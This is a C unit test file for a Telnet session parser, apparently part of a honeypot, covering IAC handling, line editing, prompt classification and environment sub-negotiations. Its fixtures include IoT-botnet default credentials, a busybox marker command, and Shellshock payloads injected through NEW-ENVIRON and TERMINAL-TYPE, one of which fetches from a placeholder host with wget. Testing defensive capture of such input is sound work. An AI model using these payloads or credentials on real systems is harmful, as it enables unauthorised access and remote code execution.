/*
 * test_telnet.c - the Telnet session core: IAC removal, line assembly and
 * editing, prompts, the silent-server rule, environment sub-negotiations.
 */
#include "tn_session.h"
#include "ss_limits.h"
#include "unit.h"

#include <stdlib.h>

#define MAX_EVENTS 16

typedef struct {
    tn_event_kind_t kind[MAX_EVENTS];
    char text[MAX_EVENTS][SS_MAX_TELNET_LINE + 1];
    char name[MAX_EVENTS][64];
    size_t len[MAX_EVENTS];
    uint8_t option[MAX_EVENTS];
    unsigned problems[MAX_EVENTS];
    int n;
} events_t;

static events_t *ev;
static tn_session_t s;

static void on_event(const tn_event_t *e, void *user)
{
    events_t *out = user;
    if (out->n >= MAX_EVENTS)
        return;
    out->kind[out->n] = e->kind;
    memcpy(out->text[out->n], e->text, e->len);
    out->text[out->n][e->len] = '\0';
    snprintf(out->name[out->n], sizeof(out->name[0]), "%s", e->name ? e->name : "");
    out->len[out->n] = e->len;
    out->option[out->n] = e->option;
    out->problems[out->n] = e->problems;
    out->n++;
}

static void start(void)
{
    if (!ev)
        ev = malloc(sizeof(*ev));
    memset(ev, 0, sizeof(*ev));
    tn_session_free(&s);
    tn_session_init(&s);
}

static void cli(const char *bytes, size_t n)
{
    tn_feed_client(&s, (const uint8_t *)bytes, n, on_event, ev);
}
#define CLI(lit) cli(lit, sizeof(lit) - 1)
#define SRV(lit) tn_feed_server(&s, (const uint8_t *)(lit), sizeof(lit) - 1)

static void test_silent_server(void)
{
    start();
    CLI("root\r\n");
    CLI("xc3511\r\n");
    CLI("enable\r\nsystem\r\n"); /* two lines in one segment */
    CLI("/bin/busybox ECCHI\r\n");
    CU_ASSERT_EQUAL_FATAL(ev->n, 5);
    CU_ASSERT_EQUAL(ev->kind[0], TN_EV_USER);
    HS_ASSERT_STR(ev->text[0], "root");
    CU_ASSERT_EQUAL(ev->kind[1], TN_EV_PASSWORD);
    HS_ASSERT_STR(ev->text[1], "xc3511");
    CU_ASSERT_EQUAL(ev->kind[2], TN_EV_COMMAND);
    HS_ASSERT_STR(ev->text[2], "enable");
    HS_ASSERT_STR(ev->text[3], "system");
    HS_ASSERT_STR(ev->text[4], "/bin/busybox ECCHI");
}

static void test_interactive_prompts(void)
{
    start();
    SRV("\xff\xfd\x18OpenBSD/i386 (oof) (ttyp2)\r\n\r\nlogin: ");
    CLI("fake\r\n");
    SRV("Password:");
    CLI("user\r\n");
    SRV("Last login: Sat Nov 27 20:11:43 on ttyp2\r\n$ ");
    CLI("/sbin/ping www.yahoo.com\r\n");
    CLI("ls\r\n");
    CU_ASSERT_EQUAL_FATAL(ev->n, 4);
    CU_ASSERT_EQUAL(ev->kind[0], TN_EV_USER);
    HS_ASSERT_STR(ev->text[0], "fake");
    CU_ASSERT_EQUAL(ev->kind[1], TN_EV_PASSWORD);
    HS_ASSERT_STR(ev->text[1], "user");
    CU_ASSERT_EQUAL(ev->kind[2], TN_EV_COMMAND);
    CU_ASSERT_EQUAL(ev->kind[3], TN_EV_COMMAND);
}

static void test_failed_login_loops(void)
{
    start();
    SRV("login: ");
    CLI("admin\r\n");
    SRV("Password: ");
    CLI("admin\r\n");
    SRV("\r\nLogin incorrect\r\nlogin: ");
    CLI("root\r\n");
    SRV("Password: ");
    CLI("vizxv\r\n");
    SRV("\r\n# ");
    CLI("cat /proc/cpuinfo\r\n");
    CU_ASSERT_EQUAL_FATAL(ev->n, 5);
    CU_ASSERT_EQUAL(ev->kind[2], TN_EV_USER);
    HS_ASSERT_STR(ev->text[2], "root");
    CU_ASSERT_EQUAL(ev->kind[3], TN_EV_PASSWORD);
    CU_ASSERT_EQUAL(ev->kind[4], TN_EV_COMMAND);
}

static void test_character_at_a_time_with_echo(void)
{
    start();
    SRV("Username: ");
    const char *keys = "rooX\x7ft";
    for (const char *k = keys; *k; k++) {
        cli(k, 1);
        tn_feed_server(&s, (const uint8_t *)k, 1); /* the server echoes */
    }
    CLI("\r\0");
    CU_ASSERT_EQUAL_FATAL(ev->n, 1);
    CU_ASSERT_EQUAL(ev->kind[0], TN_EV_USER);
    HS_ASSERT_STR(ev->text[0], "root");
}

static void test_iac_removed_across_segments(void)
{
    start();
    CLI("\xff\xfb\x18\xff\xfd"); /* WILL TTYPE, then DO split over two segments */
    CLI("\x01ro");
    CLI("ot\xff\xff\r");           /* IAC IAC is a 0xFF data byte; CR ends the line */
    CLI("\n");                     /* ...and LF after it does not end another */
    CLI("pw\xff\xf7x\r\n");        /* IAC EC erases the character before it */
    CU_ASSERT_EQUAL_FATAL(ev->n, 2);
    HS_ASSERT_STR(ev->text[0], "root\xff");
    HS_ASSERT_STR(ev->text[1], "px");
}

static void test_blank_lines_ignored(void)
{
    start();
    CLI("\r\n \t \r\n\0\r\n");
    CLI("root\r\n\r\npass\r\n");
    CU_ASSERT_EQUAL_FATAL(ev->n, 2);
    CU_ASSERT_EQUAL(ev->kind[0], TN_EV_USER);
    CU_ASSERT_EQUAL(ev->kind[1], TN_EV_PASSWORD);
}

static void test_new_environ(void)
{
    start();
    static const char sb[] = "\xff\xfa\x27\x00\x00USER\x01() { :;}; wget http://x/a\x03X\x01"
                             "y\xff\xf0";
    cli(sb, sizeof(sb) - 1);
    CU_ASSERT_EQUAL_FATAL(ev->n, 2);
    CU_ASSERT_EQUAL(ev->kind[0], TN_EV_ENVIRON);
    CU_ASSERT_EQUAL(ev->option[0], TN_OPT_NEW_ENVIRON);
    HS_ASSERT_STR(ev->name[0], "USER");
    HS_ASSERT_STR(ev->text[0], "() { :;}; wget http://x/a");
    HS_ASSERT_STR(ev->name[1], "X");
    HS_ASSERT_STR(ev->text[1], "y");
    CU_ASSERT_EQUAL(tn_take_problems(&s), 0);
}

static void test_terminal_type_and_escapes(void)
{
    start();
    static const char sb[] = "\xff\xfa\x18\x00() { :;}; id\xff\xff\xff\xf0root\r\n";
    cli(sb, sizeof(sb) - 1);
    CU_ASSERT_EQUAL_FATAL(ev->n, 2);
    CU_ASSERT_EQUAL(ev->kind[0], TN_EV_ENVIRON);
    CU_ASSERT_EQUAL(ev->option[0], TN_OPT_TERMINAL_TYPE);
    HS_ASSERT_STR(ev->text[0], "() { :;}; id\xff");
    CU_ASSERT_EQUAL(ev->kind[1], TN_EV_USER); /* data after SE is a line again */
}

static void test_sb_without_se(void)
{
    start();
    static const char sb[] = "\xff\xfa\x18\x00vt100\xff\xfa\x18\x00xterm\xff\xf0";
    cli(sb, sizeof(sb) - 1);
    CU_ASSERT_EQUAL(ev->n, 2);
    CU_ASSERT(tn_take_problems(&s) & TN_PROB_SB_UNTERMINATED);
    CU_ASSERT_EQUAL(tn_take_problems(&s), 0); /* taken once */
}

static void test_endless_line_is_bounded(void)
{
    start();
    size_t n = SS_MAX_TELNET_LINE * 3;
    char *big = malloc(n);
    memset(big, 'A', n);
    cli(big, n);
    cli(big, n);
    CLI("\r\n");
    free(big);
    CU_ASSERT_EQUAL_FATAL(ev->n, 1);
    CU_ASSERT_EQUAL(ev->len[0], SS_MAX_TELNET_LINE);
    CU_ASSERT(ev->problems[0] & TN_PROB_LINE_TOO_LONG);
    CU_ASSERT(s.line.cap <= SS_MAX_TELNET_LINE);
}

static void test_iac_flood_and_garbage(void)
{
    start();
    char junk[4096];
    for (size_t i = 0; i < sizeof(junk); i++)
        junk[i] = (char)(i % 7 == 0 ? 0xff : (i * 131) & 0xff);
    cli(junk, sizeof(junk));
    tn_feed_server(&s, (const uint8_t *)junk, sizeof(junk));
    CU_ASSERT(ev->n <= MAX_EVENTS); /* no crash, bounded; ASan checks the reads */
    CU_ASSERT(s.line.len <= SS_MAX_TELNET_LINE);
}

static void test_classify_prompt(void)
{
    static const struct {
        const char *text;
        tn_prompt_t want;
    } cases[] = {
        {"login: ", TN_PROMPT_LOGIN},
        {"Welcome\r\nLOGIN:", TN_PROMPT_LOGIN},
        {"Username:", TN_PROMPT_LOGIN},
        {"Password: ", TN_PROMPT_PASSWORD},
        {"root@router:~# ", TN_PROMPT_SHELL},
        {"$ ", TN_PROMPT_SHELL},
        {"BusyBox v1.19\r\n> ", TN_PROMPT_SHELL},
        {"Welcome to the router\r\n", TN_PROMPT_NONE},
        {"", TN_PROMPT_NONE},
        {"login: \r\n", TN_PROMPT_NONE},
    };
    for (size_t i = 0; i < sizeof(cases) / sizeof(*cases); i++) {
        tn_prompt_t got = tn_classify_prompt(cases[i].text, strlen(cases[i].text));
        if (got != cases[i].want)
            fprintf(stderr, "\n  prompt \"%s\": got %d want %d\n", cases[i].text, got, cases[i].want);
        CU_ASSERT_EQUAL(got, cases[i].want);
    }
}

static CU_TestInfo tests[] = {
    {"silent server: user, password, commands", test_silent_server},
    {"interactive prompts", test_interactive_prompts},
    {"failed login loops back to user", test_failed_login_loops},
    {"character at a time, echo, DEL", test_character_at_a_time_with_echo},
    {"IAC removed across segments", test_iac_removed_across_segments},
    {"blank lines ignored", test_blank_lines_ignored},
    {"NEW-ENVIRON values", test_new_environ},
    {"TERMINAL-TYPE and IAC IAC", test_terminal_type_and_escapes},
    {"SB without SE", test_sb_without_se},
    {"endless line is bounded", test_endless_line_is_bounded},
    {"IAC flood and garbage", test_iac_flood_and_garbage},
    {"prompt classification", test_classify_prompt},
    CU_TEST_INFO_NULL,
};

HS_UNIT_MAIN("telnet session", tests)
